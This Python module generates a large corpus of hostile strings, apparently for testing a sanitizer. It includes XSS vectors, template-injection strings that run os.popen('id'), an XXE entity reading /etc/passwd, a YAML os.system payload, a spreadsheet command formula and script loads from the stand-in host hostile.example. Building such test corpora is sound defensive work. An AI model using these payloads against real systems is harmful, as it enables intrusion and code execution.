"""Over a thousand texts that would run a script, or ask another host, where a page let them.

They are made here from small lists: what opens an element, what fires, how it is quoted and how
it is disguised.  Together they cover the kinds of the well-known public lists (the OWASP cheat
sheet on evading filters, PortSwigger's by tag and event handler, the HTML5 Security Cheatsheet),
and besides those what only Markdown, templates, JSON and XML can be tricked with.  Whatever runs
calls `alert` or asks `HOST` for something.
"""

from __future__ import annotations

from itertools import chain, cycle, product
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Iterator

HOST = "hostile.example"
ELSEWHERE = f"//{HOST}/x"


class Hostile(NamedTuple):
    """A text, and the kind of trick that it is."""

    kind: str
    text: str


# The same call, as a filter that looks for words would not find it.
CALLS = (
    "alert(1)",
    "&#97;lert(1)",
    "&#x61;&#x6c;ert&lpar;1&rpar;",
    "&#0000097lert(1)",
    "\\u0061lert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "eval(atob('YWxlcnQoMSk='))",
    "[].map.constructor('alert(1)')()",
    "(0,alert)(1)//",
    "window.onerror=alert;throw 1",
    "setTimeout('alert(1)')",
)
# What fires without the help of a reader, and what the tests set off on every element.
FIRING = (
    ("svg", "onload", ""),
    ("body", "onload", ""),
    ("style", "onload", ""),
    ("iframe", "onload", ""),
    ("img", "onerror", "src=x"),
    ("image", "onerror", "src=x"),
    ("video", "onerror", "src=x"),
    ("audio", "onerror", "src=x"),
    ("video><source", "onerror", ""),
    ("object", "onerror", "data=x"),
    ("embed", "onload", "src=data:,"),
    ("link", "onerror", "rel=stylesheet href=x"),
    ("script", "onerror", "src=x"),
    ("input", "onerror", "type=image src=x"),
    ("details", "ontoggle", "open"),
    ("input", "onfocus", "autofocus"),
    ("select", "onfocus", "autofocus"),
    ("textarea", "onfocus", "autofocus"),
    ("button", "onfocus", "autofocus"),
    ("xss", "onfocus", "autofocus tabindex=1"),
    ("svg><animate", "onbegin", "attributeName=x dur=1s"),
    ("svg><set", "onbegin", "attributeName=x dur=1s"),
    ("svg><image", "onerror", "href=x"),
    ("marquee", "onstart", ""),
    ("body", "onpageshow", ""),
    ("body", "onhashchange", ""),
    ("p", "onanimationstart", "style=animation-name:x"),
    ("p", "onmouseover", ""),
    ("b", "onpointerenter", ""),
    ("a", "onclick", "href=#"),
    ("div", "onwheel", ""),
    ("form", "onsubmit", ""),
    ("form><input", "oninput", ""),
    ("dialog", "oncancel", "open"),
    ("video", "oncanplay", "controls"),
    ("div", "oncopy", "contenteditable"),
    ("h2", "onauxclick", "id=x"),
    ("td", "ondragenter", "draggable=true"),
    ("li", "oncontextmenu", ""),
    ("math", "onmouseover", "href=#"),
    ("keygen", "onfocus", "autofocus"),
    ("div", "onbeforetoggle", "popover"),
    ("div", "onscrollend", ""),
    ("a", "onkeydown", "href=/safety/"),
)
# How the handler is joined to its element, `{}` is the element's own attributes.
JOINED = (
    '<{tag} {own} {on}="{call}">',
    "<{tag}/{on}={call}/{own}>",
    "<{tag}\n{own}\n{on}\n=\n'{call}'>",
    '<{tag} x="y"{on}="{call}" {own}>',
    "<{tag} {own} {on}={call} ",
    "<{tag} {own} {on}='{call}'//",
)
BEFORE = (
    '"', "'", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>",
    "</noscript>", "</template>", "</select>", "</svg>", "</math>", "</xmp>", "</iframe>", "?>",
    "</code></pre>", "</p></main>", '" x="', "` ", "*/ ", '\\"', "--!>", "</a>",
)  # fmt: skip
SCRIPTS = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script >{call}</script >",
    "<script/x>{call}</script/x>",
    "<script\n>{call}\n</script\n>",
    "<script x='>'>{call}</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<<script>{call}//<</script>",
    "<script>{call}",
    "<script type=module>{call}</script>",
    "<svg><script>{call}</script></svg>",
    "<svg><script>{call}</p>",
    "<script>/*<!--*/{call}//--></script>",
    "<script src=data:,{call}></script>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<script src={ELSEWHERE}.js?",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#0000106;avascript&#0000058;alert(1)",
    "&#1;javascript:alert(1)",
    "&#14; javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript:alert(1)//../index.html",
    "javascript:alert(1)//../../index.html",
    "javascript:alert(1)//../../../index.html",
    "javascript://%0aalert(1)",
    "javascript://guide.example/%0aalert(1)//",
    "javascript:%61lert(1)",
    "javascript:'<svg/onload=alert(1)>'",
    "javascript\\:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:alert(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "data:,alert(1)",
    "blob:alert(1)",
    f"http://{HOST}/x",
    ELSEWHERE,
    f"\\\\{HOST}\\x",
    f"/\\{HOST}/x",
    f"https:{HOST}/x",
)
CARRIERS = (
    "{address}",
    "[x]({address})",
    "[x](<{address}>)",
    '[x]({address} "x")',
    "![x]({address})",
    "<{address}>",
    "[x][y]\n\n[y]: {address}",
    "[{address}]",
    '<a href="{address}">x</a>',
    "<a href='{address}'>x</a>",
    "<iframe src='{address}'></iframe>",
    "<embed src='{address}'>",
    "<object data='{address}'></object>",
    "<form action='{address}'><button>x</button></form>",
    "<form><button formaction='{address}'>x</button></form>",
    "<svg><a xlink:href='{address}'><text y=9>x</text></a></svg>",
    "<math><mtext href='{address}'>x</mtext></math>",
    "<base href='{address}'>",
    "<meta http-equiv=refresh content='0;url={address}'>",
    "<svg><a><animate attributeName=href values='{address}'/><text y=9>x</text></a></svg>",
    "<svg><use href='{address}'/></svg>",
    "<img src='{address}'>",
    "<p style=\"background:url('{address}')\">x</p>",
)
# Around what is harmless in one kind of document and alive in the next: mutation.
WRAPPINGS = (
    "<svg><style>{}",
    "<math><mtext><table><mglyph><style>{}",
    "<math><annotation-xml encoding=text/html>{}",
    "<svg><foreignObject>{}",
    "<svg><desc>{}",
    "<svg><title><style>{}",
    "<template>{}</template>",
    "<noscript><p title='</noscript>{}'>",
    "<style><p title='</style>{}'>",
    "<title><p title='</title>{}'>",
    "<textarea><p title='</textarea>{}'>",
    "<xmp><p title='</xmp>{}'>",
    "<noembed><p title='</noembed>{}'>",
    "<iframe><p title='</iframe>{}'>",
    "<select><option>{}",
    "<table><caption>{}",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<iframe srcdoc='{}'></iframe>",
    "<!--><p title='--> {}'>",
    "<!-- --!> {} -->",
    "<![CDATA[{}]]>",
    "<svg><![CDATA[><p title=']]>{}'>",
    "<?x {} ?>",
    "<%x {} %>",
    "</{}",
    "<p title=`>{}`>",
    "<frameset><frame>{}",
)
ALIVE = ("<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<script>alert(1)</script>")
# Markdown that is to come out as more than Markdown.
MARKDOWN = (
    '[x](/safety/ "y" onmouseover="{call}")',
    "[x](/safety/ 'y' onmouseover='{call}')",
    '[x](/safety/"onmouseover="{call})',
    '[x](</safety/" onmouseover="{call}>)',
    '[x" onmouseover="{call}](/safety/)',
    '![x" onerror="{call}](x)',
    '![x](x"onerror="{call})',
    '[x]: /safety/ "y\\" onmouseover=\\"{call}"\n\n[x]',
    "[x](/safety/){{: onclick={call} }}",
    "x {{: onclick={call} }}",
    "## x {{: onclick={call} }}",
    "## x {{#y onclick={call}}}",
    "```\n```\n<img src=x onerror={call}>",
    "~~~ x onclick={call}\ny\n~~~",
    '``` "><img src=x onerror={call}>\ny\n```',
    "`` ` `` <img src=x onerror={call}>",
    "`<img src=x onerror={call}>",
    "***<img src=x onerror={call}>***",
    "**_x**<img src=x onerror={call}>_",
    "<div markdown=1 onclick={call}>**x**</div>",
    "<x@y.example onmouseover={call}>",
    '<https://guide.example/"onmouseover="{call}>',
    "<!-- x --> <img src=x onerror={call}>",
    "<!-- x\n\n<img src=x onerror={call}>",
    "| a | b |\n|---|---|\n| <img src=x onerror={call}> | y |",
    '| a" onclick="{call} |\n|:--|\n| y |',
    '!!! note "<img src=x onerror={call}>"\n    x',
    '!!! note" onclick="{call}\n    x',
    '!!! note "x"\n    <img src=x onerror={call}>',
    "> <img src=x onerror={call}>",
    "1. x\n\n    <img src=x onerror={call}>",
    "x  \n<img src=x onerror={call}>",
    "x\n---\n<img src=x onerror={call}>",
    "[TOC]\n\n## <img src=x onerror={call}>",
    "[^1]\n\n[^1]: <img src=x onerror={call}>",
    "*[x]: <img src=x onerror={call}>\n\nx",
    "klzzwxh:0000 wzxhzdk:0 <img src=x onerror={call}>",
    "&#2;wzxhzdk:0&#3;<img src=x onerror={call}>",
    "\\<img src=x onerror={call}\\>",
    "<img src=x\\ onerror={call}>",
    "![<img src=x onerror={call}>](/icon.svg)",
    "[<img src=x onerror={call}>](/safety/)",
)
TEMPLATES = (
    "{{ 7*7 }}", "{{7*'7'}}", "{% include 'base.html' %}", "{% for x in ().__class__.__mro__ %}",
    "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ site }}", "{{ page|safe }}",
    "{# x #}", "{%- raw -%}{{ 7*7 }}", "{% endblock %}", "{% set x = 7 %}{{ x }}", "{{", "}}", "{%",
    "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "[[alert(1)]]", "@(7*7)", "*{7*7}",
    "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}",
    "<p ng-app ng-init=constructor.constructor('alert(1)')()>", "<p v-html='alert(1)'>",
    "<p x-init=alert(1) x-data>", "<p hx-on:load=alert(1)>", "{0.__class__}", "{path}", "{title}",
    "%(x)s", "%s%n", "{!r}", "$alert(1)", "\\N{BULLET}", "\\1\\g<0>", "__import__('os')",
)  # fmt: skip
DATA = (
    "</script><script>alert(1)</script>",
    "</ScRiPt ><script>alert(1)</script>",
    "<!--<script>alert(1)//",
    "<!--<script></script><script>alert(1)</script>-->",
    "\\u003c/script>\\u003cscript>alert(1)",
    '";alert(1);//',
    "';alert(1);//",
    '\\";alert(1);//',
    "\\';alert(1);//",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "`-alert(1)-`",
    "\\",
    "\\\\",
    '"}]};alert(1);//',
    "};alert(1);//",
    "*/alert(1)/*",
    "//\nalert(1)",
    "-->\nalert(1)",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "</title><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "</description><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<a xmlns:a='http://www.w3.org/1999/xhtml'><a:body onload='alert(1)'/></a>",
    "<?xml-stylesheet href='data:text/xsl,x'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&y;&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '","@type":"x","y":"',
    '\n"x": 1,\n',
    "x: [y, {z: &a *a}]",
    "!!python/object/apply:os.system ['id']",
    "=cmd|'/c calc'!A1",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
)
DISGUISES = (
    "\x00{}", "{}\x00", "\u2028{}", "{}\u2029", "\ufeff{}", "\u202e{}\u202c", "\u200b{}",
    "\u2066{}", "\u061c{}", "\ud800{}", "\ufffe{}", "\x1b[2J{}", "\x9b2J{}", "\x0c{}",
    "\xa0{}", "\xad{}", "\U000e0001{}", "a\u0301{}", "\U0001f9d8{}", "%00{}", "\\0{}", "&#0;{}",
    "&#x80;{}", "{}\x08\x08",
)  # fmt: skip
ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0000000000060;img src=x onerror=alert(1)&#0000000000062;",
    "&#60img src=x onerror=alert(1)&#62",
    "&LT;img src=x onerror=alert(1)&GT;",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "&#34;onmouseover=alert(1)&#34;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "\u02ba onmouseover=alert(1) \u02ba",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<\u212ampt onfocus=alert(1) autofocus tabindex=1>",
    "\u226escript>alert(1)</script>",
)
NAMES = (
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "length",
    "body", "main", "head", "supple", "guide", "elements", "forms", "location", "cookie", "domain",
    "getElementById", "querySelector", "createElement", "currentScript", "documentElement",
    "localStorage", "name", "children", "attributes", "nodeName", "then", "toJSON", "undefined",
    "reading", "own-routine", "without-scripts", "safety", "stop", "how", "con", "NaN",
)  # fmt: skip
CLOBBERING = (
    "{name}",
    "## {name}",
    "<a id={name}>x</a><a id={name} name=elements href=x:alert(1)>y</a>",
    "<form id={name} name={name}><input name=attributes><input name={name}></form>",
    "<img name={name}>",
)
STYLES = (
    "background:url({})", "background:url('{}')", "list-style-image:url({})", "@import '{}'",
    "@import url({})", "behavior:url({})", "-moz-binding:url({})", "cursor:url({}),auto",
    "content:url({})", "width:expression(alert(1))", "x:exp/**/ression(alert(1))",
    "x:\\65 xpression(alert(1))", "background:image-set('{}' 1x)", "mask:url({}#x)",
    "@font-face{{font-family:x;src:url({})}}*{{font-family:x}}", "animation-name:x;position:fixed",
)  # fmt: skip
STYLED = (
    '<p style="{}">x</p>',
    "<style>{}</style>",
    "<style>*{{{}}}</style>",
    "{}",
    "</style><style>{}",
)
ASKING = (
    "<img src={}>", "<img srcset='{} 2x'>", "<image src={}>", "<input type=image src={}>",
    "<video poster={}>", "<video src={} autoplay>", "<audio src={} autoplay>",
    "<video><track default src={}></video>", "<link rel=stylesheet href={}>",
    "<link rel=preload as=image href={}>", "<link rel=prefetch href={}>",
    "<link rel=dns-prefetch href={}>", "<link rel=icon href={}>", "<link rel=manifest href={}>",
    "<link rel=modulepreload href={}>", "<object data={}></object>", "<embed src={}>",
    "<iframe src={}></iframe>", "<frameset><frame src={}></frameset>", "<body background={}>",
    "<table background={}><tr><td>x</table>", "<svg><image href={} width=9 height=9></svg>",
    "<svg><use href={}#x></svg>", "<svg><feImage href={}></svg>", "<base href={}>",
    "<a href={} ping={}>x</a>", "<form action={}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;{}'>", "<script src={}></script>", "![x]({})",
    "![x][y]\n\n[y]: {}", "<picture><source srcset={}><img></picture>", "<portal src={}></portal>",
    "<fencedframe src={}></fencedframe>", "<applet code={}></applet>", "<bgsound src={}>",
    "<html manifest={}>", "<isindex action={} type=submit>",
)  # fmt: skip
# What begins as the address of a source, of the licence or of an edit has to begin.
HONEST = ("https://guide.example/", "https://guide.example/{path}", "mailto:a@guide.example?x=")
HONEST_ENDS = (
    "'onmouseover='alert(1)", "&quot;onmouseover=alert(1)", "&#34;&#62;&#60;script&#62;alert(1)",
    "`onmouseover=`alert(1)", "{path}{title}{{ 7*7 }}", "javascript:alert(1)",
    "%22onclick=alert(1)",
    "%0d%0aSet-Cookie:x=1", "\\'-alert(1)-\\'", "../../../x", "@hostile.example", "?<script>", "'",
    '"onmouseover="alert(1)', "</loc><script>alert(1)</script>", "&x;", "]]>", "-->", "%00", "/",
)  # fmt: skip


def hostile_strings() -> tuple[Hostile, ...]:
    """All of them, each text once, in the same order each time."""
    made = chain(
        _handlers(), _broken_out(), _addresses(), _mutated(), _written(), _disguised(), _plain()
    )
    return tuple({hostile.text: hostile for hostile in made}.values())


def spread(strings: tuple[Hostile, ...], count: int) -> tuple[Hostile, ...]:
    """So many of them, from all over the list."""
    return tuple(strings[place * len(strings) // count] for place in range(count))


def _handlers() -> Iterator[Hostile]:
    """Every firing element with several ways to join its handler, each time another disguise."""
    calls = cycle(CALLS)
    joins = cycle(JOINED)
    for tag, on, own in 4 * FIRING:
        text = next(joins).format(tag=tag, on=on, own=own, call=next(calls))
        yield Hostile("event handler", text.replace("  ", " "))
    for tag, on, own in FIRING:
        yield Hostile("event handler", f"<{tag} {on}=alert(1) {own}>".replace(" >", ">"))


def _broken_out() -> Iterator[Hostile]:
    """Scripts, by themselves and behind what ends the place that a text stands in."""
    calls = cycle(CALLS)
    for script in SCRIPTS:
        for call in (CALLS[0], next(calls)):
            yield Hostile("script element", script.format(call=call))
    for before, alive in product(BEFORE, ALIVE):
        yield Hostile("breaking out", before + alive)
    for before in ('"', "'", "` ", "x "):
        for on in ("onmouseover", "onfocus", "onclick"):
            yield Hostile("breaking out", f"{before}{on}={before}alert(1){before}".rstrip())


def _addresses() -> Iterator[Hostile]:
    """Every address bare and in Markdown, and in a few elements each."""
    elements = cycle(CARRIERS[8:])
    for address in ADDRESSES:
        for carrier in (*CARRIERS[:8], *(next(elements) for _ in range(2))):
            yield Hostile("address", carrier.format(address=address))
    for begin, end in product(HONEST, HONEST_ENDS):
        yield Hostile("honest address", begin + end)


def _mutated() -> Iterator[Hostile]:
    """Live elements where parsers differ on what is text."""
    for wrapping, alive in product(WRAPPINGS, ALIVE):
        yield Hostile("mutation", wrapping.format(alive))


def _written() -> Iterator[Hostile]:
    """Markdown, each trick with two calls."""
    calls = cycle(CALLS[1:])
    for trick in MARKDOWN:
        for call in (CALLS[0], next(calls)):
            yield Hostile("Markdown", trick.format(call=call))


def _disguised() -> Iterator[Hostile]:
    """Characters that nobody sees, entities, and other spellings of the same."""
    for disguise, alive in product(DISGUISES, ALIVE[:2]):
        yield Hostile("invisible character", disguise.format(alive))
    yield from (Hostile("encoding", text) for text in ENCODED)


def _plain() -> Iterator[Hostile]:
    """Templates, data formats, names that scripts read, styles, and requests."""
    yield from (Hostile("template", text) for text in TEMPLATES)
    yield from (Hostile("data", text) for text in DATA)
    forms = cycle(CLOBBERING[1:])
    for name in NAMES:
        for form in (CLOBBERING[0], next(forms)):
            yield Hostile("clobbering", form.format(name=name))
    styled = cycle(STYLED)
    for style in STYLES:
        for address in (f"http:{ELSEWHERE}", "javascript:alert(1)"):
            yield Hostile("style", next(styled).format(style.format(address)))
    yield from (Hostile("request", ask.format(*2 * [f"http:{ELSEWHERE}"])) for ask in ASKING)
